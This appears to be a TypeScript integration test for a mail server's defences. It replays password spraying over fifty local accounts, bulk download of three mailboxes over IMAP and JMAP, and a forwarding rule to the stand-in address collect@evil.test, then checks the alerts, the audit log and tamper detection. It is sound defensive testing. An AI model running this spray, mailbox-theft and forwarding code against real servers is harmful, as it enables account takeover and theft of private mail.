/**
 * The attack Portcullis exists to stop, replayed end to end against a running server (issue 8):
 * one source sprays a password over 50 accounts and finds three that use it; the intruder then
 * downloads those three mailboxes over IMAP and JMAP from another address, and signs in on the web
 * to forward one account's mail to an outside address. Each step must be slowed, alerted or both,
 * the owner must be told of the forward by mail, every step must be in the audit log, the log
 * must verify, and one changed byte must make verification fail naming the record.
 * ATTACKS.md cases: AU-02 (spraying), LG-01 (reads audited), LG-03 and SV-06 (a forward kept as a
 * foothold is audited, alerted and mailed to the owner), LG-04 (tampering shows).
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ImapFlow } from 'imapflow';
import nodemailer from 'nodemailer';
import { openApp } from '../../src/main.ts';
import { localAdminContext } from '../../src/services/admin.ts';
import { RawImap } from '../helpers/imap.ts';
import { cli, cliOk, makeDataDir, type RunningServer, startServer, tamperAudit } from '../helpers/server.ts';
import { until } from '../helpers/wait.ts';

const SPRAYED = 'Spring2026!';
const ACCOUNTS = Array.from({ length: 50 }, (_, i) => `user${String(i + 1).padStart(2, '0')}@example.test`);
/** The three accounts whose owners chose the sprayed password. */
const WEAK = [ACCOUNTS[1]!, ACCOUNTS[3]!, ACCOUNTS[5]!];
const MESSAGES = 15;
const SPRAYER = '127.0.0.90';
const INTRUDER = '127.0.0.91';

type Json = Record<string, any>;

describe('replay: spraying, mailbox theft over IMAP and JMAP, a forwarding rule', () => {
  let data: { path: string; remove(): void };
  let server: RunningServer;
  const port = (name: string) => server.ports[name]!;
  const alerts = (): Json[] =>
    cliOk(data.path, ['alerts', 'list', '--json'])
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Json);
  const audit = (args: string[]): Json[] =>
    cliOk(data.path, ['audit', 'search', '--limit', '100000', ...args])
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Json);

  before(async () => {
    data = makeDataDir({
      domains: ['example.test'],
      config: [
        '[limits]',
        'authFreeFailures = 5',
        'authDelay = 100',
        'authMaxDelay = 1',
        'authBlockAfter = 20',
        '[alerts]',
        'massReadMessages = 10',
      ].join('\n'),
    });
    // Fifty accounts in one process (the CLI would start fifty).
    const app = openApp(data.path);
    try {
      for (const address of ACCOUNTS) {
        const r = await app.services.directory.addUser(
          localAdminContext(),
          address,
          WEAK.includes(address) ? SPRAYED : `${address} has a long unique passphrase`,
        );
        assert.ok(r.ok, address);
      }
    } finally {
      await app.close();
    }
    server = await startServer(data.path, ['smtp=127.0.0.1:0', 'imaps=127.0.0.1:0', 'http=127.0.0.1:0']);
    const smtp = nodemailer.createTransport({
      host: '127.0.0.1',
      port: port('smtp'),
      secure: false,
      ignoreTLS: true,
    });
    for (const to of WEAK)
      for (let i = 0; i < MESSAGES; i++)
        await smtp.sendMail({
          envelope: { from: 'partner@remote.test', to: [to] },
          raw: `From: partner@remote.test\r\nTo: ${to}\r\nSubject: privileged ${i}\r\n\r\nCase notes ${i}.\r\n`,
        });
    smtp.close();
  });
  after(async () => {
    await server?.stop();
    data?.remove();
  });

  test('1. spraying 50 accounts from one source is slowed, then refused, and alerted', async () => {
    const outcomes: { name: string; status: string; text: string; ms: number }[] = [];
    for (const name of ACCOUNTS) {
      const c = await RawImap.open(port('imaps'), true, SPRAYER);
      const started = performance.now();
      const r = await c.cmd(`LOGIN "${name}" "${SPRAYED}"`, 30_000);
      outcomes.push({ name, status: r.status, text: r.text, ms: performance.now() - started });
      c.close();
    }
    const found = outcomes.filter((o) => o.status === 'OK').map((o) => o.name);
    assert.deepEqual(found, WEAK, 'the spray finds the three weak passwords');
    const failed = outcomes.filter((o) => o.status === 'NO' && o.text.includes('AUTHENTICATIONFAILED'));
    const refused = outcomes.filter((o) => o.status === 'NO' && o.text.startsWith('[UNAVAILABLE]'));
    assert.equal(failed.length, 20, 'twenty guesses were checked');
    assert.equal(refused.length, 50 - 20 - 3, 'the rest were refused unchecked');
    // Past five free failures each guess waited longer: 100, 200, 400, 800 ms, then 1 s.
    const slowed = failed.slice(6).map((o) => o.ms);
    assert.ok(
      slowed.every((ms) => ms >= 90),
      `slowed guesses: ${slowed.map(Math.round).join(', ')}`,
    );
    assert.ok(
      slowed.reduce((a, b) => a + b, 0) >= 10_000,
      'the checked guesses cost the sprayer more than ten seconds',
    );
    const spray = alerts().find((a) => a.kind === 'auth.spray');
    assert.ok(spray, 'password spraying alerted');
    assert.equal(spray.detail.remote, SPRAYER);
  });

  let downloaded = 0;
  test('2. downloading three whole mailboxes over IMAP and JMAP is alerted within 60 s', async () => {
    // Over IMAP: the first account, whole INBOX.
    const imap = new ImapFlow({
      host: '127.0.0.1',
      port: port('imaps'),
      secure: true,
      // imapflow hands its tls options to tls.connect, which takes net's localAddress.
      tls: { rejectUnauthorized: false, localAddress: INTRUDER } as { rejectUnauthorized: boolean },
      auth: { user: WEAK[0]!, pass: SPRAYED },
      logger: false,
      socketTimeout: 30_000,
    });
    await imap.connect();
    await imap.mailboxOpen('INBOX');
    let n = 0;
    for await (const m of imap.fetch('1:*', { source: true })) if (m.source?.includes('Case notes')) n++;
    assert.equal(n, MESSAGES);
    await imap.logout();
    // Over JMAP: the second account by blob downloads, the third by body values.
    const http = `http://127.0.0.1:${port('http')}`;
    for (const [i, who] of [WEAK[1]!, WEAK[2]!].entries()) {
      const auth = `Basic ${Buffer.from(`${who}:${SPRAYED}`).toString('base64')}`;
      const session = (await (
        await fetch(`${http}/jmap/session`, { headers: { authorization: auth } })
      ).json()) as Json;
      const accountId = Object.keys(session.accounts)[0]!;
      const call = async (calls: unknown[]) =>
        (
          (await (
            await fetch(`${http}/jmap/api`, {
              method: 'POST',
              headers: { authorization: auth, 'content-type': 'application/json' },
              body: JSON.stringify({
                using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:mail'],
                methodCalls: calls,
              }),
            })
          ).json()) as Json
        ).methodResponses as [string, Json, string][];
      const [, got] = await call([
        ['Email/query', { accountId, limit: 1000 }, 'q'],
        [
          'Email/get',
          {
            accountId,
            '#ids': { resultOf: 'q', name: 'Email/query', path: '/ids' },
            properties: ['blobId', 'bodyValues', 'textBody'],
            fetchAllBodyValues: i === 1,
          },
          'g',
        ],
      ]);
      const list = got![1].list as Json[];
      assert.equal(list.length, MESSAGES);
      if (i === 0)
        for (const e of list) {
          const url = String(session.downloadUrl)
            .replace('{accountId}', accountId)
            .replace('{blobId}', e.blobId)
            .replace('{name}', 'm.eml')
            .replace('{type}', 'message/rfc822');
          const r = await fetch(url, { headers: { authorization: auth } });
          assert.match(await r.text(), /Case notes/);
        }
      else
        assert.ok(
          list.every((e) => Object.values(e.bodyValues as Json).some((v) => /Case notes/.test(v.value))),
        );
    }
    downloaded = Date.now();
    const deadline = downloaded + 60_000;
    let alerted: string[] = [];
    while (Date.now() < deadline) {
      alerted = alerts()
        .filter((a) => a.kind === 'mail.mass-read')
        .map((a) => a.account);
      if (WEAK.every((w) => alerted.includes(w))) break;
      await new Promise((r) => setTimeout(r, 1000));
    }
    assert.deepEqual([...new Set(alerted)].sort(), [...WEAK].sort(), 'each stolen mailbox is alerted');
    assert.ok(Date.now() - downloaded < 60_000);
  });

  test('3. a new external forward is alerted and mailed to the owner, and takes effect', async () => {
    const http = `http://127.0.0.1:${port('http')}`;
    const login = await fetch(`${http}/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', origin: http },
      body: JSON.stringify({ username: WEAK[0], password: SPRAYED }),
    });
    assert.equal(login.status, 200);
    const { csrfToken } = (await login.json()) as Json;
    const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
    const put = await fetch(`${http}/auth/forwarding`, {
      method: 'PUT',
      headers: { 'content-type': 'application/json', origin: http, cookie, 'x-csrf-token': csrfToken },
      body: JSON.stringify({ targets: ['collect@evil.test'], keepCopy: true }),
    });
    assert.equal(put.status, 204, await put.text());
    const persistence = await until('the forward to be alerted', async () =>
      alerts().find((a) => a.kind === 'persistence' && a.detail.action === 'mail.forward.set'),
    );
    assert.equal(persistence.severity, 'high');
    assert.equal(persistence.account, WEAK[0]);
    assert.equal(persistence.detail.external, 'collect@evil.test');
    // The owner finds the notice in the INBOX (the server's own notice is never forwarded).
    const imap = new ImapFlow({
      host: '127.0.0.1',
      port: port('imaps'),
      secure: true,
      tls: { rejectUnauthorized: false },
      auth: { user: WEAK[0]!, pass: SPRAYED },
      logger: false,
    });
    await imap.connect();
    await imap.mailboxOpen('INBOX');
    const notices = await until('the notice to the owner', async () => {
      const found = await imap.search({ subject: 'forwarded' });
      return found && found.length > 0 ? found : undefined;
    });
    assert.equal(notices.length, 1);
    const notice = await imap.fetchOne(String(notices[0]), { source: true });
    assert.ok(notice);
    assert.match(notice.source!.toString(), /Forwarded to: collect@evil\.test/);
    await imap.logout();
    // New mail now also leaves for the intruder's address.
    const smtp = nodemailer.createTransport({
      host: '127.0.0.1',
      port: port('smtp'),
      secure: false,
      ignoreTLS: true,
    });
    await smtp.sendMail({
      envelope: { from: 'partner@remote.test', to: [WEAK[0]!] },
      raw: 'Subject: settlement\r\n\r\nThe figure is...\r\n',
    });
    smtp.close();
    assert.match(cliOk(data.path, ['queue', 'list']), /\tuser02@example\.test\tcollect@evil\.test/);
  });

  test('4. every step is in the audit log, which verifies; one changed byte is named', async () => {
    // Reads are recorded per minute; stopping the server closes the current minute.
    await server.stop();
    const logins = audit(['--action', 'auth.login']).filter((r) => r.remote === SPRAYER);
    const outcomes = (o: string) => logins.filter((r) => r.outcome === o).length;
    assert.deepEqual([outcomes('failed'), outcomes('refused'), outcomes('ok')], [20, 27, 3]);
    const imapReads = audit(['--action', 'mail.read', '--account', WEAK[0]!]).filter(
      (r) => r.protocol === 'imap',
    );
    assert.ok(
      imapReads.some((r) => r.remote === INTRUDER && r.detail.messages >= MESSAGES),
      'the IMAP download names where it came from',
    );
    for (const w of WEAK) {
      const mine = audit(['--action', 'mail.read', '--account', w]);
      assert.ok(mine.reduce((n, r) => n + r.detail.reads, 0) >= MESSAGES, `reads of ${w}`);
    }
    const forward = audit(['--action', 'mail.forward.set']);
    assert.equal(forward.length, 1);
    assert.equal(forward[0]!.detail.external, 'collect@evil.test');
    assert.equal(forward[0]!.remote, '127.0.0.1');
    assert.ok(
      logins.every((r) => /^TLSv1\.[23]$/.test(r.tls)),
      'sign-ins record the TLS version of the connection',
    );
    const signin = audit(['--action', 'auth.signin', '--account', WEAK[0]!]);
    assert.equal(signin.length, 1);
    assert.deepEqual(
      [signin[0]!.tls, signin[0]!.client],
      [null, 'node'],
      'and what the client called itself',
    );
    for (const kind of ['alert.auth.spray', 'alert.mail.mass-read', 'alert.persistence'])
      assert.ok(audit(['--action', kind]).length >= 1, kind);

    assert.match(cliOk(data.path, ['audit', 'verify']), /^audit log intact/);
    // One byte: the intruder's address in the forward becomes another.
    const seq = await tamperAudit(data.path, 'mail.forward.set', (record) => record.replace('evil', 'evIl'));
    const r = cli(data.path, ['audit', 'verify']);
    assert.equal(r.code, 3);
    assert.match(r.stdout, new RegExp(`^audit log BROKEN at record ${seq}:`, 'm'));
  });
});
